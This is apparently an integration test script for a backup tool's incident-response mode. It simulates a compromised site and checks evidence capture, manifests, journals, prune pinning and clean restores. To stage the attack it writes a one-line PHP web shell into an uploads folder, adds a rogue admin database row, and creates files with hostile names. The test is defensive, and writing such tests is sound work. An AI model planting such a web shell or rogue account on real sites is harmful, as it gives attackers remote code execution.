# lifeboat incident on a compromised sample site (a web shell added, a log
# line edited, a rogue admin row, rotated and gzipped logs, hostile names):
# the evidence directory (full snapshot, dump, every log whole incl. .gz,
# facts, change list, status), a manifest sha256sum -c accepts, a journal
# line per step, prune removing none of it; kill -9 mid-capture and the
# resume; restore --replace refused before the evidence and done after
# (live tree == clean snapshot, moved-aside tree == evidence snapshot,
# database == the chosen dump); the bundle and its .sha256, --no-db; close.
# Drives: lib/incident/*.c, daemon/cmd_incident.c, daemon/cmd_restore.c (--replace).
set -e
. "$(dirname "$0")/db-lib.sh"
command -v tar >/dev/null || exit 77

db="inc_$$"
drop_db_later "$db"
db_q -e "CREATE DATABASE $db; USE $db;
	CREATE TABLE users (id INT PRIMARY KEY, name VARCHAR(64), is_admin TINYINT) ENGINE=InnoDB;
	INSERT INTO users VALUES (1, 'alice', 1), (2, 'bob', 0);
	CREATE TABLE pages (id INT PRIMARY KEY, body TEXT) ENGINE=InnoDB;
	INSERT INTO pages VALUES (1, 'welcome');"

# ---------------------------------------------------------------- the site
WWW=$TMP/www/site
LOG=$TMP/log
mkdir -p "$WWW/cgi-bin" "$WWW/uploads" "$LOG"
echo '<?php echo "shop";' > "$WWW/index.php"
echo 'Deny from all' > "$WWW/.htaccess"
printf '#!/bin/sh\necho ok\n' > "$WWW/cgi-bin/status.cgi"
chmod 755 "$WWW/cgi-bin/status.cgi"
echo 'logo' > "$WWW/uploads/logo.png"
echo 'odd' > "$WWW/$(printf 'new\nline.php')"
echo 'odd' > "$WWW/$(printf 'tab\there \001ctl')"
for i in $(seq 1 50); do echo "10.0.0.$i - - [01/Dec/2026] \"GET /index.php HTTP/1.1\" 200 12"; done > "$LOG/access.log"
echo "old rotated line" > "$LOG/access.log.1"
echo "older rotated line" | gzip > "$LOG/access.log.2.gz"
echo "auth line" > "$LOG/$(printf 'auth\nevil.log')"

cat > "$TMP/lb.ini" <<EOF
[lifeboat]
store = $STORE
state_dir = $STATE
max_load = 0
io_limit = 0
on_incident = touch $TMP/offline; echo site is offline now
on_incident_close = rm -f $TMP/offline; echo site back
[files:site]
schedule = @daily
path = $WWW
[db:shop]
schedule = @daily
socket = $SOCK
user = $LBUSER
password_file = $PWFILE
databases = $db
chunk_rows = 100
keep_last = 1
keep_daily = 0
keep_weekly = 0
keep_monthly = 0
[logs:web]
schedule = @hourly
paths = $LOG/*.log
keep_last = 1
keep_daily = 0
keep_weekly = 0
keep_monthly = 0
EOF
CFG=$TMP/lb.ini

# A job may not be called "incidents": that is where the evidence lives.
sed 's/\[files:site\]/[files:incidents]/' "$CFG" > "$TMP/bad.ini"
expect_rc 2 "$LIFEBOAT" -c "$TMP/bad.ini" check-config
contains "$ERR" "reserved"

# Clean backups: two of each, so that retention would remove the older.
for j in site shop web site shop web; do
	expect_rc 0 lb run "$j" --here
done
last_id() { lb list "$1" | grep -oE '[0-9]{4}/[0-9]{2}/backup-[0-9]{2}-[0-9]{2,3}' | tail -n 1; }
CLEAN_SITE=$(last_id site)
CLEAN_SHOP=$(last_id shop)
expect_rc 0 lb restore site "$CLEAN_SITE" --to "$TMP/clean"

# ---------------------------------------------------------------- the attack
sleep 1.1
printf '<?php eval($_POST["c"]); ?>\n' > "$WWW/uploads/.cache.php"
sed -i 's/10.0.0.7 /10.9.9.9 /' "$LOG/access.log"
echo "even older" | gzip > "$LOG/access.log.3.gz"
db_q -e "INSERT INTO $db.users VALUES (666, 'rogue', 1)"

# Before any incident, --replace refuses.
expect_rc 1 lb restore site "$CLEAN_SITE" --replace
contains "$ERR" "no incident is open"
[ -e "$WWW/uploads/.cache.php" ] || fail "a refused replace touched the live tree"

# ---------------------------------------------------------------- kill -9 mid-capture
# The dump waits at a locked table; the capture is killed there.
gate_table "$db" users 60
"$LIFEBOAT" -c "$CFG" incident open --note "$(printf 'defaced at 03:10\nhunch: upload form')" >"$TMP/open1.out" 2>&1 &
OPEN_PID=$!
kill_later "$OPEN_PID"
INC=""
for _ in $(seq 600); do
	INC=$(ls "$STORE/incidents" 2>/dev/null | head -n 1)
	[ -n "$INC" ] && [ -e "$STORE/incidents/$INC/.db-shop.sql.zst.part" ] && break
	sleep 0.1
done
DIR=$STORE/incidents/$INC
[ -e "$DIR/.db-shop.sql.zst.part" ] || { cat "$TMP/open1.out"; fail "the capture never reached the dump"; }
kill -KILL "$OPEN_PID"
wait "$OPEN_PID" 2>/dev/null || true
release_gate
[ -e "$TMP/offline" ] || fail "on_incident did not run first"
equals "$(stat -c %a "$DIR")" "700" "incident dir mode"
[ ! -e "$DIR/MANIFEST.sha256" ] || fail "a manifest after a killed capture"
[ -e "$DIR/files-site.tar.zst" ] || fail "the snapshot finished before the kill is not there"
[ ! -e "$DIR/db-shop.sql.zst" ] || fail "a half-written dump under its final name"

# The evidence is not complete: --replace refuses, and says so in the journal.
expect_rc 1 lb restore site "$CLEAN_SITE" --replace
contains "$ERR" "not complete"
contains "$(cat "$DIR/journal.txt")" "restore --replace refused"
expect_rc 0 lb incident status
contains "$OUT" "NOT complete"

# Open again: the capture is finished, the interruption journaled.
expect_rc 0 lb incident open
contains "$OUT" "evidence complete"
J=$(cat "$DIR/journal.txt")
contains "$J" "capture interrupted"
contains "$J" "removed 1 half-written file"
contains "$J" "already captured: files-site.tar.zst"
[ -z "$(find "$DIR" -maxdepth 1 -name '.*.part')" ] || fail "part files left"
not_contains "$(cat "$DIR/MANIFEST.sha256")" ".part" "manifest"

# ---------------------------------------------------------------- the evidence
for f in files-site.tar.zst files-site.index.zst db-shop.sql.zst logs-web.tar.zst logs-web.archived.json \
	changes.json status.json facts.json hook-on_incident.txt journal.txt MANIFEST.sha256; do
	[ -f "$DIR/$f" ] || fail "evidence $f missing"
	equals "$(stat -c %a "$DIR/$f")" "600" "mode of $f"
done
(cd "$DIR" && sha256sum --quiet -c MANIFEST.sha256) || fail "sha256sum -c MANIFEST.sha256"
equals "$(wc -l < "$DIR/MANIFEST.sha256")" "9" "files in the manifest"
contains "$J" "$(sha256sum "$DIR/MANIFEST.sha256" | cut -d' ' -f1)" "journal (the manifest's hash)"
contains "$(cat "$DIR/hook-on_incident.txt")" "site is offline now"
# A line per step: UTC, local time with zone, uid(name), what, result.
for step in "incident opened" "on_incident hook" "note" "evidence files site" "evidence db shop" \
	"evidence logs web" "evidence changes" "evidence status" "evidence facts" "pins" "manifest" "capture complete"; do
	grep -qP "^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ\t\d{4}-\d\d-\d\d \d\d:\d\d:\d\d \S+ \([+-]\d{4}\)\tuid=$(id -u)\($(id -un)\)[^\t]*\t$step" \
		"$DIR/journal.txt" || fail "journal has no line for '$step'"
done
awk -F'\t' 'NF != 5 { exit 1 }' "$DIR/journal.txt" || fail "a journal line without 5 fields (a note's newline not escaped?)"
contains "$J" 'defaced at 03:10\nhunch: upload form'
contains "$J" "on_incident hook	exit status 0"

# The full snapshot: the live tree as it was, hidden files, the web shell and hostile names included.
mkdir "$TMP/ev"
tar --zstd -xf "$DIR/files-site.tar.zst" -C "$TMP/ev"
diff -r "$TMP/ev" "$WWW" >/dev/null || fail "evidence snapshot differs from the live tree"
[ -f "$TMP/ev/uploads/.cache.php" ] || fail "the web shell is not in the evidence"
# The dump: the rogue row is in it.
zstd -dc "$DIR/db-shop.sql.zst" | grep -q "rogue" || fail "the dump lacks the rogue row"
# The logs: every one whole, rotated and gzipped ones byte for byte.
mkdir "$TMP/evlogs"
tar --zstd -xf "$DIR/logs-web.tar.zst" -C "$TMP/evlogs"
for f in access.log access.log.1 access.log.2.gz access.log.3.gz "$(printf 'auth\nevil.log')"; do
	cmp -s "$TMP/evlogs$LOG/$f" "$LOG/$f" || fail "log $f not copied whole"
done
contains "$(cat "$TMP/evlogs$LOG/access.log")" "10.9.9.9" "the edited log as found"
contains "$(cat "$DIR/logs-web.archived.json")" '"id"'
# The change list: the web shell, added since the last good backup.
CH=$(python3 -c 'import json,sys; d=json.load(open(sys.argv[1])); print([(c["change"],c["path"]) for j in d["jobs"] for c in j["changes"]])' "$DIR/changes.json")
contains "$CH" "('added', 'uploads/.cache.php')"
equals "$(python3 -c 'import json,sys; d=json.load(open(sys.argv[1])); print(d["jobs"][0]["baseline"])' "$DIR/changes.json")" "$CLEAN_SITE" "baseline of the change list"
contains "$(cat "$DIR/facts.json")" '"kernel"'
contains "$(cat "$DIR/status.json")" "$CLEAN_SHOP"

# ---------------------------------------------------------------- prune removes none of it
# A newer dump (with the rogue row) would push the clean one out (keep_last = 1):
# the pin keeps it, through the run's own prune and an explicit one.
expect_rc 0 lb run shop --here
ROGUE_SHOP=$(last_id shop)
[ "$ROGUE_SHOP" != "$CLEAN_SHOP" ] || fail "no newer shop backup"
[ -f "$STORE/shop/$CLEAN_SHOP.json" ] || fail "the pinned clean dump was pruned by the run"
BEFORE=$(lb list | grep -cE 'backup-')
expect_rc 0 lb prune
AFTER=$(lb list | grep -cE 'backup-')
equals "$AFTER" "$BEFORE" "backups after prune (pinned by the incident)"
contains "$(cat "$STORE/shop/$CLEAN_SHOP.pin")" "incident $INC"
[ -f "$STORE/shop/$CLEAN_SHOP.json" ] || fail "prune removed the pinned clean dump"
(cd "$DIR" && sha256sum --quiet -c MANIFEST.sha256) || fail "evidence changed by prune"
expect_rc 0 lb list
not_contains "$OUT" "incidents" "list"

# ---------------------------------------------------------------- status, checklist
expect_rc 0 lb incident status
contains "$OUT" "complete (MANIFEST.sha256)"
contains "$OUT" "files-site.tar.zst"
contains "$OUT" "[x] fileset"
contains "$OUT" "[ ] db-password"
expect_rc 0 lb incident done report
expect_rc 0 lb incident status
contains "$OUT" "[x] report"
expect_rc 2 lb incident done nosuchstep
run lb status
contains "$OUT$ERR" "INCIDENT $INC"

# ---------------------------------------------------------------- restore --replace
expect_rc 0 lb restore site "$CLEAN_SITE" --replace
contains "$OUT" "suggested clean backup of site: $CLEAN_SITE"
diff -r "$TMP/clean" "$WWW" >/dev/null || fail "the live tree is not the clean snapshot"
[ ! -e "$WWW/uploads/.cache.php" ] || fail "the web shell survived the replace"
diff -r "$TMP/ev" "$DIR/replaced/site" >/dev/null || fail "the moved-aside tree is not the evidence snapshot"

copy="inc_copy_$$"
drop_db_later "$copy"
expect_rc 0 lb restore shop "$CLEAN_SHOP" --database "$copy"
expect_rc 0 lb restore shop "$CLEAN_SHOP" --replace
contains "$OUT" "suggested clean backup of shop: $CLEAN_SHOP"
equals "$(db_q -e "SELECT COUNT(*) FROM $db.users WHERE name = 'rogue'")" "0" "rogue rows after the replace"
equals "$(db_q -e "CHECKSUM TABLE $db.users, $db.pages" | cut -f2 | tr '\n' ' ')" \
	"$(db_q -e "CHECKSUM TABLE $copy.users, $copy.pages" | cut -f2 | tr '\n' ' ')" "database vs the chosen dump"
J=$(cat "$DIR/journal.txt")
contains "$J" "restore --replace files	site $CLEAN_SITE"
contains "$J" "restore --replace db	shop $CLEAN_SHOP"

# ---------------------------------------------------------------- bundle
mkdir -p "$TMP/b"
expect_rc 0 lb incident bundle -o "$TMP/b/evidence.tar.zst"
(cd "$TMP/b" && sha256sum --quiet -c evidence.tar.zst.sha256) || fail "bundle .sha256"
mkdir "$TMP/bx"
tar --zstd -xf "$TMP/b/evidence.tar.zst" -C "$TMP/bx" || fail "tar --zstd -xf of the bundle"
[ -f "$TMP/bx/incident-$INC/README.txt" ] || fail "no README in the bundle"
[ -f "$TMP/bx/incident-$INC/db-shop.sql.zst" ] || fail "no dump in the bundle"
(cd "$TMP/bx/incident-$INC" && sha256sum --quiet -c MANIFEST.sha256) || fail "manifest inside the bundle"
expect_rc 0 lb incident bundle --no-db -o "$TMP/b/nodb.tar.zst"
(cd "$TMP/b" && sha256sum --quiet -c nodb.tar.zst.sha256) || fail "--no-db bundle .sha256"
LISTING=$(tar --zstd -tf "$TMP/b/nodb.tar.zst")
not_contains "$LISTING" "db-shop.sql" "the --no-db bundle"
contains "$LISTING" "facts.json" "the --no-db bundle"

# ---------------------------------------------------------------- close
expect_rc 0 lb incident close
contains "$OUT" "match MANIFEST.sha256"
[ ! -e "$TMP/offline" ] || fail "on_incident_close did not run"
[ ! -e "$STATE/incident-open" ] || fail "the open marker stayed"
contains "$(tail -n 1 "$DIR/journal.txt")" "incident closed"
expect_rc 0 lb incident list
contains "$OUT" "$INC"
contains "$OUT" "closed"
expect_rc 1 lb incident note "too late"

# --without-evidence: done, and written down (an incident opened to hold the journal).
expect_rc 0 lb restore site "$CLEAN_SITE" --replace --without-evidence
INC2=$(cat "$STATE/incident-open")
[ "$INC2" != "$INC" ] || fail "no new incident for --without-evidence"
J2=$(cat "$STORE/incidents/$INC2/journal.txt")
contains "$J2" "restore --replace WITHOUT EVIDENCE"
contains "$J2" "restore --replace files	site $CLEAN_SITE"
diff -r "$TMP/clean" "$WWW" >/dev/null || fail "the live tree after --without-evidence"
expect_rc 0 lb incident close
done_ok
